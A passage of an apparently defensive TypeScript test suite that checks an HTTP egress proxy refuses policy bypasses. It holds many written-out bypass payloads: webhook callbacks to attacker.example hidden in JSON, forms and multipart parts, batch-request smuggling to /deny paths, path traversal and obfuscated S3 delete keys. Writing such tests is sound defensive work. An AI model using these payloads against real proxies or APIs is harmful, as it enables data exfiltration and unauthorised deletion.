    ['POST', '/ok/svc/$batch;jsessionid=1', json, batchJson, rawHost],
    ['POST', '/ok/svc;v=2/%24batch;x/', 'multipart/mixed; boundary=b', '--b\r\nContent-Type: application/http\r\n\r\nDELETE /deny/secret.txt HTTP/1.1\r\n\r\n--b--\r\n', rawHost],
    ['POST', '/ok/svc/$BATCH;a=b;c', json, batchJson, rawHost],
  );
  for (const [i, [method, path, type, body, extra]] of cases.entries()) {
    const [res] = parseResponses(await (extra === rawHost ? send(method, path, type, body, i % 2 === 1, '', rawHost) : send(method, path, type, body, i % 2 === 1, extra)));
    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res), `${method} ${path} ${(extra ?? body).slice(0, 110)}: refused (${res?.status})`);
  }
  t.same(sentTo.slice(before[0]), [], 'no destination the policy denies was configured');
  t.notOk(esRan.slice(before[1]).some((r) => / deny/.test(r)), 'no stored script sent a document into a denied index, no date math reached one');
  t.same(swiftRan.slice(before[2]), [], 'the Swift server read nothing the policy denies');
  t.notOk(batchRan.slice(ran).some((c) => c.includes('/deny')), 'no batch call behind path parameters ran under /deny');
  // The callback members by property: spelling (camel, snake, kebab, upper, WebSub's dotted name) ×
  // placement (JSON, nested JSON, urlencoded form, PHP-nested form name, query) × forward or tunnel.
  await fc.assert(fc.asyncProperty(
    fc.record({
      key: fc.constantFrom('notificationUrl', 'lifecycleNotificationUrl', 'callback_url', 'CallbackURL', 'statusCallback', 'StatusCallbackUrl', 'webhook-url', 'WEBHOOKURL', 'hub.callback', 'notify_url', 'endpointUrl', 'payload_url'),
      place: fc.constantFrom('json', 'nested', 'form', 'bracket', 'query'),
      tunnel: fc.boolean(),
    }),
    async ({ key, place, tunnel }) => {
      const to = 'https://attacker.example/cb';
      const sent = sentTo.length;
      const [method, path, type, body] = place === 'json' ? ['POST', '/ok/v1/jobs', json, JSON.stringify({ input: 'x', [key]: to })]
        : place === 'nested' ? ['PUT', '/ok/v1/jobs', json, JSON.stringify({ input: 'x', options: [{ delivery: { [key]: to } }] })]
        : place === 'form' ? ['POST', '/ok/v1/jobs', 'application/x-www-form-urlencoded', `input=x&${encodeURIComponent(key)}=${encodeURIComponent(to)}`]
        : place === 'bracket' ? ['POST', '/ok/v1/jobs', 'application/x-www-form-urlencoded', `input=x&options%5B${encodeURIComponent(key)}%5D=${encodeURIComponent(to)}`]
        : ['POST', `/ok/v1/jobs?${encodeURIComponent(key)}=${encodeURIComponent(to)}`, json, '{"input":"x"}'];
      const [res] = parseResponses(await send(method, path, type, body, tunnel));
      return res?.status === 403 && isProblem(res) && sentTo.length === sent;
    },
    // WebSub's dotted name nested in a PHP form name (found by this property at a seed in the seventeenth merge).
  ), { numRuns: Math.min(numRuns, 8), ...seed, examples: [[{ key: 'hub.callback', place: 'bracket', tunnel: false }]] });
  // Nineteenth pass: the same members in a body larger than the capture cap (2 KiB here), before or
  // after the padding, the value plain or escaped (`\u0068ttps`, `https%3A`): such a JSON body is no
  // whole JSON to the readers, and a form's field past the cap was never read; the service
  // registered the callback. Now cut as the body leaves (400), nothing registered.
  // (Past what one read of the socket brings: the capture keeps whole reads.)
  const pad = 'p'.repeat(300_000);
  await fc.assert(fc.asyncProperty(
    fc.record({
      key: fc.constantFrom('notificationUrl', 'callback_url', 'StatusCallback', 'webhook-url', 'hub.callback', 'notify_url'),
      place: fc.constantFrom('json', 'nested', 'form', 'bracket'),
      after: fc.boolean(),
      escaped: fc.boolean(),
      tunnel: fc.boolean(),
    }),
    async ({ key, place, after, escaped, tunnel }) => {
      const sent = sentTo.length;
      let body: string;
      if (place === 'json' || place === 'nested') {
        const value = escaped ? '"\\u0068ttps://attacker.example/cb"' : '"https://attacker.example/cb"';
        const member = place === 'json' ? `${JSON.stringify(key)}: ${value}` : `"options": [{"delivery": {${JSON.stringify(key)}: ${value}}}]`;
        body = after ? `{"input": "x", "pad": "${pad}", ${member}}` : `{${member}, "pad": "${pad}"}`;
      } else {
        const name = place === 'form' ? encodeURIComponent(key) : `options%5B${encodeURIComponent(key)}%5D`;
        const field = `${name}=${escaped ? 'https%3A%2F%2Fattacker.example%2Fcb' : 'https://attacker.example/cb'}`;
        body = after ? `input=x&pad=${pad}&${field}` : `${field}&pad=${pad}`;
      }
      const [res] = parseResponses(await send('POST', '/ok/v1/jobs', place === 'json' || place === 'nested' ? json : 'application/x-www-form-urlencoded', body, tunnel));
      return res !== undefined && res.status >= 400 && res.status < 500 && isProblem(res) && sentTo.length === sent;
    },
  ), { numRuns: Math.min(numRuns, 12), ...seed, examples: [[{ key: 'notificationUrl', place: 'json', after: false, escaped: false, tunnel: false }], [{ key: 'callback_url', place: 'form', after: true, escaped: false, tunnel: false }]] });
  // Controls: bodies as large with a callback member that holds no URL, or none at all, go through.
  for (const [type, body] of [[json, `{"input": "x", "callback_url": "none", "pad": "${pad}", "nested": {"webhook": null}}`], ['application/x-www-form-urlencoded', `callback_url=none&pad=${pad}&notify_url=`], [json, `{"input": "x", "pad": "${pad}"}`]] as const) {
    const [res] = parseResponses(await send('POST', '/ok/v1/jobs', type, body, false));
    t.equal(res?.status, 201, `control: a ${type} body past the cap without a callback URL goes through`);
  }
  // Twenty-second pass (follow-up): a JSON part after a large file part, past the cap, as Spring's
  // @RequestPart binds it (and Google's multipart/related metadata part): the readers read JSON parts
  // of the captured start only, so the service registered the callback. Now read as it leaves:
  // plain, nested, a list, escaped, in a part that is a multipart itself, base64 (refused: not decoded here).
  const filePart = (b: string): string => `--${b}\r\nContent-Disposition: form-data; name="file"; filename="a.bin"\r\nContent-Type: application/octet-stream\r\n\r\n${pad}\r\n`;
  const jsonPart = (b: string, o: string, extra = ''): string => `--${b}\r\nContent-Disposition: form-data; name="meta"\r\nContent-Type: application/json\r\n${extra}\r\n${o}\r\n`;
  for (const [i, [type, body]] of ([
    ['multipart/form-data; boundary=b', `${filePart('b')}${jsonPart('b', '{"input": "x", "notificationUrl": "https://attacker.example/cb"}')}--b--\r\n`],
    ['multipart/form-data; boundary=b', `${filePart('b')}${jsonPart('b', '{"options": [{"delivery": {"callback_url": "\\u0068ttps://attacker.example/cb"}}]}')}--b--\r\n`],
    ['multipart/related; boundary=b', `${filePart('b')}${jsonPart('b', '{"webhook": {"url": "https://attacker.example/cb"}}')}--b--\r\n`],
    ['multipart/form-data; boundary=b', `${jsonPart('b', `{"input": "x", "pad": "${pad}", "request_uris": ["https://allowed.example/r", "https://attacker.example/cb"]}`)}--b--\r\n`],
    ['multipart/form-data; boundary=b', `${filePart('b')}--b\r\nContent-Disposition: form-data; name="more"\r\nContent-Type: multipart/mixed; boundary=c\r\n\r\n${jsonPart('c', '{"notificationUrl": "https://attacker.example/cb"}')}--c--\r\n--b--\r\n`],
    ['multipart/form-data; boundary=b', `${filePart('b')}${jsonPart('b', Buffer.from('{"notificationUrl": "https://attacker.example/cb"}').toString('base64'), 'Content-Transfer-Encoding: base64\r\n')}--b--\r\n`],
    // The delimiter mid-line in the JSON, which RFC 2046 parsers (Spring's, Python's email) read as content: within the cap and past it.
    ['multipart/form-data; boundary=b', `${jsonPart('b', '{"x": "--b", "notificationUrl": "https://attacker.example/cb"}')}--b--\r\n`],
    ['multipart/form-data; boundary=b', `${filePart('b')}${jsonPart('b', '{"x": "--b", "notificationUrl": "https://attacker.example/cb"}')}--b--\r\n`],
    // Within the cap, a JSON part after a UTF-8 byte order mark, or in UTF-16LE, as Jackson reads both.
    ['multipart/form-data; boundary=b', `${jsonPart('b', '\ufeff{"notificationUrl": "https://attacker.example/cb"}')}--b--\r\n`],
    ['multipart/related; boundary=b', `${jsonPart('b', `${[...'{"notificationUrl": "https://attacker.example/cb"}'].join('\0')}\0`)}--b--\r\n`],
    // Past the cap, in UTF-16LE (refused: not decoded there).
    ['multipart/related; boundary=b', `${filePart('b')}${jsonPart('b', `${[...'{"notificationUrl": "https://attacker.example/cb"}'].join('\0')}\0`)}--b--\r\n`],
    // And one in base64, whose body as sent spells no callback member at all.
    ['multipart/form-data; boundary=b', `${jsonPart('b', Buffer.from('{"notificationUrl": "https://attacker.example/cb"}').toString('base64'), 'Content-Transfer-Encoding: base64\r\n')}--b--\r\n`],
  ] as const).entries()) {
    const sent = sentTo.length;
    const [res] = parseResponses(await send('POST', '/ok/v1/jobs', type, body, i % 2 === 1));
    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && sentTo.length === sent, `a JSON part naming a callback (${i}, ${type.split(';')[0]}): refused, nothing registered (${res?.status})`);
  }
  // Controls: a file and a JSON part naming no callback URL, a JSON file past the cap, go through.
  for (const body of [`${filePart('b')}${jsonPart('b', '{"input": "x", "callback_url": "none", "name": "https://allowed.example/x"}')}--b--\r\n`, `${jsonPart('b', `{"rows": ["${pad}"], "source": "https://allowed.example/doc"}`)}--b--\r\n`]) {
    const [res] = parseResponses(await send('POST', '/ok/v1/jobs', 'multipart/form-data; boundary=b', body, false));
    t.equal(res?.status, 201, `control: a multipart upload past the cap with a JSON part naming no callback goes through (${body.slice(-40, -10)})`);
  }
});

t.test('property: a registry blob mount from another repository is decided as a read of that repository\'s blob', async (t) => {
  // `POST /v2/agent/app/blobs/uploads/?mount=<digest>&from=deny/db` was judged as an upload to
  // agent/app; the registry linked deny/db's layer there, readable by pulling agent/app.
  const dHost = `allowed.example:${dav.port}`;
  const mount = (query: string, tunnel: boolean): Promise<{ text: string }> => tunnel
    ? rawToProxy(a.port, `CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\nPOST /v2/agent/app/blobs/uploads/?${query} HTTP/1.1\r\nHost: ${dHost}\r\nContent-Length: 0\r\n\r\n`, { responses: 1 })
      .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
    : rawToProxy(a.port, `POST http://${dHost}/v2/agent/app/blobs/uploads/?${query} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}Content-Length: 0\r\n\r\n`, { responses: 1 });
  t.match((await mount('mount=sha256:0b5&from=ok/base', false)).text, /^HTTP\/1\.1 201/, 'control: a mount from a repository the policy lets be read goes through');
  await fc.assert(fc.asyncProperty(
    fc.record({
      query: fc.constantFrom('mount=sha256:5ec&from=deny/db', 'from=deny/db&mount=sha256:5ec', 'mount=sha256:5ec&from=ok/base&from=deny/db', 'mount=sha256:5ec&from=deny%2Fdb', 'mount=sha256%3A5ec&from=deny/db'),
      tunnel: fc.boolean(),
    }),
    async ({ query, tunnel }) => {
      const [res] = parseResponses((await mount(query, tunnel)).text);
      return res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !davFiles.has('/v2/agent/app/blobs/sha256:5ec');
    },
  ), { numRuns: Math.min(numRuns, 8), ...seed });
});

t.test('property: an S3 multi-object delete is decided as a DELETE of each key its body lists', async (t) => {
  // `POST /ok?delete` was judged under /ok while the store removed every key of its XML body:
  // `protected/keep.txt`, whose own DELETE the policy refuses.
  const dHost = `allowed.example:${dav.port}`;
  const del = (keys: string[], opts: { tunnel: boolean; ns: boolean; query: string; space?: boolean }): Promise<{ text: string }> => {
    const xml = `<?xml version="1.0" encoding="UTF-8"?><Delete${opts.ns ? ' xmlns="http://s3.amazonaws.com/doc/2006-03-01/"' : ''}>${keys.map((k) => `<Object><Key${opts.space ? ' ' : ''}>${k}</Key${opts.space ? ' ' : ''}></Object>`).join('')}</Delete>`;
    const head = `Content-Type: application/xml\r\nContent-Length: ${Buffer.byteLength(xml)}\r\n\r\n`;
    return opts.tunnel
      ? rawToProxy(a.port, `CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\nPOST /ok?${opts.query} HTTP/1.1\r\nHost: ${dHost}\r\n${head}${xml}`, { responses: 1 })
        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
      : rawToProxy(a.port, `POST http://${dHost}/ok?${opts.query} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}${xml}`, { responses: 1 });
  };
  t.match((await del(['scratch.txt'], { tunnel: false, ns: true, query: 'delete' })).text, /^HTTP\/1\.1 200/, 'control: deleting a key the policy lets be deleted goes through');
  t.notOk(davFiles.has('/ok/scratch.txt'), 'control: the store deleted it');
  await fc.assert(fc.asyncProperty(
    fc.record({
      // Fourteenth pass: as Go's encoding/xml (MinIO) reads a key: CDATA, a comment or a processing instruction inside it.
      key: fc.constantFrom('protected/keep.txt', 'protected&#x2F;keep.txt', 'protected/keep.txt'.replace('k', '&#107;'), '<![CDATA[protected/keep.txt]]>', 'protected/<!-- x -->keep.txt', 'protected/<?pi x?>keep.txt'),
      position: fc.nat({ max: 1 }),
      ns: fc.boolean(),
      query: fc.constantFrom('delete', 'delete=', 'x-id=DeleteObjects&delete'),
      space: fc.boolean(),
      tunnel: fc.boolean(),
    }),
    async ({ key, position, ns, query, space, tunnel }) => {
      const keys = position ? ['scratch-2.txt', key] : [key];
      const [res] = parseResponses((await del(keys, { tunnel, ns, query, space })).text);
      return res !== undefined && res.status === 403 && isProblem(res) && davFiles.has('/ok/protected/keep.txt');
    },
  ), { numRuns: Math.min(numRuns, 14), ...seed });
});

t.test('property: each HTTP call a batch body carries (OData $batch, Google batch) is decided as the request the server runs: none reaches a denied path', async (t) => {
  // `POST /ok/svc/$batch` was judged as one POST under /ok while the server ran every
  // `application/http` part in it: `GET /deny/secret.txt` came back in the batch's answer.
  const dHost = `allowed.example:${dav.port}`;
  const batch = (calls: string[], opts: { nl?: string; changeset?: boolean; type?: string; name?: string } = {}): string => {
    const nl = opts.nl ?? '\r\n';
    const parts = calls.map((c) => `${opts.name ?? 'Content-Type'}: ${opts.type ?? 'application/http'}${nl}Content-Transfer-Encoding: binary${nl}${nl}${c} HTTP/1.1${nl}${nl}`);
    const inner = opts.changeset ? [`Content-Type: multipart/mixed; boundary=cs${nl}${nl}${parts.map((p) => `--cs${nl}${p}`).join(nl)}${nl}--cs--`] : parts;
    return `${inner.map((p) => `--b${nl}${p}`).join(nl)}${nl}--b--${nl}`;
  };
  const send = (body: string, tunnel: boolean): Promise<{ text: string }> => {
    const head = `Content-Type: multipart/mixed; boundary=b\r\nContent-Length: ${Buffer.byteLength(body, 'latin1')}\r\n\r\n`;
    return tunnel
      ? rawToProxy(a.port, `CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\nPOST /ok/svc/$batch HTTP/1.1\r\nHost: ${dHost}\r\n${head}${body}`, { responses: 1 })
        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
      : rawToProxy(a.port, `POST http://${dHost}/ok/svc/$batch HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}${body}`, { responses: 1 });
  };
  const control = parseResponses((await send(batch(['GET /ok/dav/a.txt', 'GET Products(1)']), false)).text)[0];
  t.equal(control?.status, 200, 'control: a batch of allowed calls is forwarded');
  t.match(control?.body ?? '', /GET \/ok\/dav\/a\.txt -> hello/, 'control: the server ran its calls');
  const mention = parseResponses((await send('--b\r\nContent-Type: text/plain\r\n\r\nContent-Type: application/http\r\n\r\nGET /deny/x HTTP/1.1\r\n--b--\r\n', false)).text)[0];
  t.equal(mention?.status, 200, 'control: a multipart body that only quotes a call in a text part is no batch');
  await fc.assert(fc.asyncProperty(
    fc.record({
      target: fc.constantFrom('/deny/secret.txt', `http://${dHost}/deny/secret.txt`, '../../deny/secret.txt', '/ok/../deny/secret.txt', `http://127.0.0.1:${dav.port}/deny/secret.txt`),
      method: fc.constantFrom('GET', 'DELETE', 'get'),
      position: fc.nat({ max: 2 }),
      nl: fc.constantFrom('\r\n', '\n'),
      changeset: fc.boolean(),
      type: fc.constantFrom('application/http', 'Application/HTTP'),
      // Fifteenth pass: the part's header name as Microsoft.OData.Core reads it (trimmed before the colon).
      name: fc.constantFrom('Content-Type', 'Content-Type ', ' Content-Type', 'content-type\t'),
      tunnel: fc.boolean(),
    }),
    async ({ target, method, position, nl, changeset, type, name, tunnel }) => {
      const calls = ['GET /ok/dav/a.txt', 'GET Products(1)'];
      calls.splice(position, 0, `${method} ${target}`);
      const before = batchRan.length;
      const [res] = parseResponses((await send(batch(calls, { nl, changeset, type, name }), tunnel)).text);
      return res !== undefined && [400, 403, 421].includes(res.status) && isProblem(res) && !batchRan.slice(before).some((c) => c.includes('/deny'));
    },
  ), { numRuns: Math.min(numRuns, 16), ...seed });
  // OData's JSON batch format: the same calls as `{"requests": [{method, url}]}`.
  const json = (requests: unknown[], tunnel: boolean): Promise<{ text: string }> => {
    const b = JSON.stringify({ requests });
    const head = `Content-Type: application/json\r\nContent-Length: ${Buffer.byteLength(b)}\r\n\r\n`;
    return tunnel
      ? rawToProxy(a.port, `CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\nPOST /ok/svc/$batch HTTP/1.1\r\nHost: ${dHost}\r\n${head}${b}`, { responses: 1 })
        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
      : rawToProxy(a.port, `POST http://${dHost}/ok/svc/$batch HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}${b}`, { responses: 1 });
  };
  t.match((await json([{ id: '1', method: 'GET', url: '/ok/dav/a.txt' }], false)).text, /^HTTP\/1\.1 200/, 'control: a JSON batch of allowed calls is forwarded');
  for (const [i, target] of ['/deny/secret.txt', '../../deny/secret.txt', `http://${dHost}/deny/secret.txt`, `http://127.0.0.1:${dav.port}/deny/secret.txt`].entries()) {
    const [res] = parseResponses((await json([{ id: '1', method: 'GET', url: '/ok/dav/a.txt' }, { id: '2', method: i % 2 ? 'delete' : 'GET', url: target }], i > 1)).text);
    t.ok(res !== undefined && [400, 403, 421].includes(res.status) && isProblem(res), `a JSON batch calling ${target}: refused (${res?.status})`);
  }
  // Fourteenth pass: an envelope servers read in two ways (Go's encoding/json: keys without case,
  // the last winning; first-match readers: a repeated key's first value) is refused.
  for (const [name, text] of [
    ['a call\'s URL again in capitals', '{"requests":[{"id":"1","method":"GET","url":"/ok/dav/a.txt","URL":"/deny/secret.txt"}]}'],
    ['the list again in capitals', '{"requests":[{"id":"1","method":"GET","url":"/ok/dav/a.txt"}],"REQUESTS":[{"id":"1","method":"GET","url":"/deny/secret.txt"}]}'],
    ['the list twice, the denied call first', '{"requests":[{"id":"1","method":"GET","url":"/deny/secret.txt"}],"requests":[{"id":"1","method":"GET","url":"/ok/dav/a.txt"}]}'],
  ] as const) {
    const head = `Content-Type: application/json\r\nContent-Length: ${Buffer.byteLength(text)}\r\n\r\n`;
    const [res] = parseResponses((await rawToProxy(a.port, `POST http://${dHost}/ok/svc/$batch HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}${text}`, { responses: 1 })).text);
    t.ok(res?.status === 400 && isProblem(res), `a JSON batch with ${name}: 400 (${res?.status})`);
  }
  // Salesforce's composite and composite batch: the same calls in its own envelopes.
  const sf = (path: string, envelope: unknown): Promise<{ text: string }> => {
    const b = JSON.stringify(envelope);
    return rawToProxy(a.port, `POST http://${dHost}/services/data/v58.0/${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}Content-Type: application/json\r\nContent-Length: ${Buffer.byteLength(b)}\r\n\r\n${b}`, { responses: 1 });
  };
  t.match((await sf('composite', { compositeRequest: [{ method: 'GET', url: '/services/data/v58.0/sobjects/Account/001', referenceId: 'a' }] })).text, /^HTTP\/1\.1 200/, 'control: a Salesforce composite of allowed calls is forwarded');
  for (const [path, envelope] of [
    ['composite', { allOrNone: true, compositeRequest: [{ method: 'GET', url: '/services/data/v58.0/sobjects/Account/001', referenceId: 'a' }, { method: 'DELETE', url: '/services/data/v58.0/sobjects/Deny__c/002', referenceId: 'b' }] }],
    ['composite/batch', { batchRequests: [{ method: 'PATCH', url: 'v58.0/sobjects/Deny__c/002', richInput: { Name: 'x' } }] }],
  ] as const) {
    const [res] = parseResponses((await sf(path, envelope)).text);
    t.ok(res?.status === 403 && isProblem(res), `Salesforce ${path} calling a denied object: 403 (${res?.status})`);
  }
  t.notOk(batchRan.some((c) => c.includes('Deny__c')), 'the server never ran a call on the denied object');
  t.notOk(batchRan.some((c) => c.includes('/deny')), 'the server never ran a call under /deny');
});

t.test('property: a batch call that refers to an earlier call by its Content-ID (`$1`, OData) is decided where the server runs it', async (t) => {
  // Seventeenth pass: `DELETE $1` after `POST /keep/Items` (Content-ID 1) was decided as a DELETE
  // of /ok/svc/$1 while ASP.NET OData put the new entity's Location there: /keep/Items(42) was deleted.
  const dHost = `allowed.example:${dav.port}`;
  const multipart = (calls: Array<[string, string]>, changeset: boolean): [string, string] => {
    const parts = calls.map(([id, c]) => `Content-Type: application/http\r\nContent-Transfer-Encoding: binary\r\nContent-ID: ${id}\r\n\r\n${c} HTTP/1.1\r\n${c.startsWith('POST') ? 'Content-Type: application/json\r\n\r\n{"Name":"x"}' : '\r\n'}\r\n`);
    const inner = changeset ? [`Content-Type: multipart/mixed; boundary=cs\r\n\r\n${parts.map((p) => `--cs\r\n${p}`).join('\r\n')}\r\n--cs--`] : parts;
    return ['multipart/mixed; boundary=b', `${inner.map((p) => `--b\r\n${p}`).join('\r\n')}\r\n--b--\r\n`];
  };
  const json = (calls: Array<[string, string]>): [string, string] => ['application/json', JSON.stringify({ requests: calls.map(([id, c]) => {
    const [method, url] = c.split(' ') as [string, string];
    return { id, method, url, ...(method === 'POST' ? { body: { Name: 'x' }, headers: { 'content-type': 'application/json' } } : { dependsOn: ['1'] }) };
  }) })];
  const send = ([type, body]: [string, string], tunnel: boolean): Promise<{ text: string }> => {
    const head = `Content-Type: ${type}\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n`;
    return tunnel
      ? rawToProxy(a.port, `CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\nPOST /ok/svc/$batch HTTP/1.1\r\nHost: ${dHost}\r\n${head}${body}`, { responses: 1 })
        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
      : rawToProxy(a.port, `POST http://${dHost}/ok/svc/$batch HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}${body}`, { responses: 1 });
  };
  const before = batchRan.length;
  t.match((await send(multipart([['1', 'POST /ok/Items'], ['2', 'DELETE $1']], true), false)).text, /^HTTP\/1\.1 200/, 'control: a reference to an entity created under /ok goes through');
  t.match((await send(json([['1', 'POST /ok/Items'], ['2', 'PATCH $1/Orders']]), false)).text, /^HTTP\/1\.1 200/, 'control: so does a JSON batch\'s');
  t.ok(batchRan.slice(before).some((c) => /^DELETE \/ok\/Items\(\d+\)$/.test(c)), 'control: the server ran the DELETE on the entity it created');
  await fc.assert(fc.asyncProperty(
    fc.record({
      ref: fc.constantFrom('$1', '$1/Orders', '$1?x=1', '$1/'),
      format: fc.constantFrom('multipart', 'changeset', 'json'),
      tunnel: fc.boolean(),
    }),
    async ({ ref, format, tunnel }) => {
      const calls: Array<[string, string]> = [['1', 'POST /keep/Items'], ['2', `DELETE ${ref}`]];
      const n = batchRan.length;
      const [res] = parseResponses((await send(format === 'json' ? json(calls) : multipart(calls, format === 'changeset'), tunnel)).text);
      return res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !batchRan.slice(n).some((c) => c.startsWith('DELETE /keep'));
    },
  ), { numRuns: Math.min(numRuns, 8), ...seed });
  // A reference ASP.NET resolves where Airlock cannot say what it names: mid-URL, to a later call, to an id another begins.
  for (const calls of [
    [['1', 'POST /keep/Items'], ['2', 'DELETE /ok/x/$1']],
    [['2', 'DELETE $1'], ['1', 'POST /keep/Items']],
    [['1', 'POST /keep/Items'], ['10', 'POST /ok/Items'], ['3', 'DELETE $10']],
  ] as Array<Array<[string, string]>>) {
    const [res] = parseResponses((await send(json(calls), false)).text);
    t.ok(res?.status === 400 && isProblem(res), `${calls.map((c) => c[1]).join(', ')}: 400 (${res?.status})`);
  }
  t.notOk(batchRan.some((c) => c.startsWith('DELETE /keep')), 'the server never deleted under /keep');
  // A call's own Host header (OData 4.0 §11.7.2: an absolute path and its host) naming another
  // virtual host at the same address than the batch was decided at: 421; the batch's own host passes.
  const hosted = (h: string): [string, string] => ['multipart/mixed; boundary=b', `--b\r\nContent-Type: application/http\r\n\r\nGET /ok/dav/a.txt HTTP/1.1\r\nHost: ${h}\r\n\r\n\r\n--b--\r\n`];
  t.match((await send(hosted(dHost), false)).text, /^HTTP\/1\.1 200/, 'control: a call naming the batch\'s own host goes through');
  for (const [i, h] of [`alias.example:${dav.port}`, 'localhost', `allowed.example:${dav.port + 1}`].entries()) {
    const [res] = parseResponses((await send(hosted(h), i === 1)).text);
    t.ok(res?.status === 421 && isProblem(res), `a call naming Host ${h}: 421 (${res?.status})`);
  }
  const [jsonHosted] = parseResponses((await send(['application/json', JSON.stringify({ requests: [{ id: '1', method: 'GET', url: '/ok/dav/a.txt', headers: { Host: `alias.example:${dav.port}` } }] })], false)).text);
  t.ok(jsonHosted?.status === 421 && isProblem(jsonHosted), `a JSON batch call naming another Host: 421 (${jsonHosted?.status})`);
});

t.test('property: a Facebook Graph batch (query, form, multipart, JSON) and Salesforce\'s composite graph, sObject tree and collections are decided call by call and record by record', async (t) => {
  // `POST /?batch=[{"method":"GET","relative_url":"deny/secret.txt"}]` was judged as one POST to `/`
  // while the server ran the call; a tree under `composite/tree/Account` created a `Deny__c` child.
  const dHost = `allowed.example:${dav.port}`;
  const post = (path: string, type: string | undefined, body: string, tunnel: boolean, method = 'POST'): Promise<{ text: string }> => {
    const head = `${type ? `Content-Type: ${type}\r\n` : ''}Content-Length: ${Buffer.byteLength(body)}\r\n\r\n`;
    return tunnel
      ? rawToProxy(a.port, `CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\n${method} ${path} HTTP/1.1\r\nHost: ${dHost}\r\n${head}${body}`, { responses: 1 })
        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
      : rawToProxy(a.port, `${method} http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}${body}`, { responses: 1 });
  };
  const place = (where: string, list: unknown[]): [string, string | undefined, string] => {
    const json = JSON.stringify(list);
    switch (where) {
      case 'query': return [`/?batch=${encodeURIComponent(json)}&include_headers=false`, undefined, ''];
      case 'form': return ['/', 'application/x-www-form-urlencoded', `access_token=x&batch=${encodeURIComponent(json)}`];
      case 'multipart': return ['/', 'multipart/form-data; boundary=X', `--X\r\nContent-Disposition: form-data; name="batch"\r\n\r\n${json}\r\n--X--\r\n`];
      case 'JSON list': return ['/', 'application/json', JSON.stringify({ batch: list })];
      default: return ['/', 'application/json', JSON.stringify({ batch: json })];
    }
  };
  const [cPath, cType, cBody] = place('form', [{ method: 'GET', relative_url: 'ok/dav/a.txt' }]);
  t.match((await post(cPath, cType, cBody, false)).text, /^HTTP\/1\.1 200/, 'control: a Graph batch of allowed calls goes through');
  await fc.assert(fc.asyncProperty(
    fc.record({
      where: fc.constantFrom('query', 'form', 'multipart', 'JSON list', 'JSON string'),
      target: fc.constantFrom('deny/secret.txt', '/deny/secret.txt', 'ok/../deny/secret.txt', 'ok/%2e%2e/deny/secret.txt'),
      method: fc.constantFrom('GET', 'DELETE', 'delete', undefined),
      position: fc.nat({ max: 1 }),
      tunnel: fc.boolean(),
    }),
    async ({ where, target, method, position, tunnel }) => {
      const list: unknown[] = [{ method: 'GET', relative_url: 'ok/dav/a.txt' }];
      list.splice(position, 0, method === undefined ? { relative_url: target } : { method, relative_url: target });
      const before = batchRan.length;
      const [res] = parseResponses((await post(...place(where, list), tunnel)).text);
      return res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !batchRan.slice(before).some((c) => c.includes('/deny'));
    },
  ), { numRuns: Math.min(numRuns, 10), ...seed });
  // Twenty-second pass: the batch as PHP registers it (Facebook's front end fills $_GET and $_POST so):
  // a name with leading blanks or cut at a NUL, or nested (`batch[1][relative_url]=`), was no `batch` to the readers.
  const phpShapes: Record<string, (target: string) => [string, string | undefined, string]> = {
    'nested form': (target) => ['/php/', 'application/x-www-form-urlencoded', `batch[0][method]=GET&batch[0][relative_url]=ok%2Fdav%2Fa.txt&batch[1][method]=DELETE&batch[1][relative_url]=${encodeURIComponent(target)}`],
    'nested form, []': (target) => ['/php/', 'application/x-www-form-urlencoded', `batch[][relative_url]=${encodeURIComponent(target)}`],
    'nested query': (target) => [`/php/?batch%5B0%5D%5Brelative_url%5D=${encodeURIComponent(target)}`, undefined, ''],
    'nested multipart': (target) => ['/php/', 'multipart/form-data; boundary=X', `--X\r\nContent-Disposition: form-data; name="batch[0][method]"\r\n\r\nDELETE\r\n--X\r\nContent-Disposition: form-data; name="batch[0][relative_url]"\r\n\r\n${target}\r\n--X--\r\n`],
    'leading blank': (target) => ['/php/', 'application/x-www-form-urlencoded', `+batch=${encodeURIComponent(JSON.stringify([{ method: 'DELETE', relative_url: target }]))}`],
    'cut at a NUL': (target) => ['/php/', 'application/x-www-form-urlencoded', `batch%00x=${encodeURIComponent(JSON.stringify([{ method: 'DELETE', relative_url: target }]))}`],
  };
  // (Past the capture cap such fields are watched as `batch` is: the upload stops there.)
  const phpPad = `pad=${'p'.repeat(300_000)}&`;
  for (const [i, tail] of [`batch[0][relative_url]=deny%2Fsecret.txt`, `+batch=${encodeURIComponent(JSON.stringify([{ relative_url: 'deny/secret.txt' }]))}`].entries()) {
    const before = batchRan.length;
    const [res] = parseResponses((await post('/php/', 'application/x-www-form-urlencoded', phpPad + tail, i === 1)).text);
    t.ok(res?.status === 400 && isProblem(res) && !batchRan.slice(before).some((c) => c.includes('/deny')), `a batch as PHP reads it past the capture cap (${tail.slice(0, 12)}): 400 (${res?.status})`);
  }
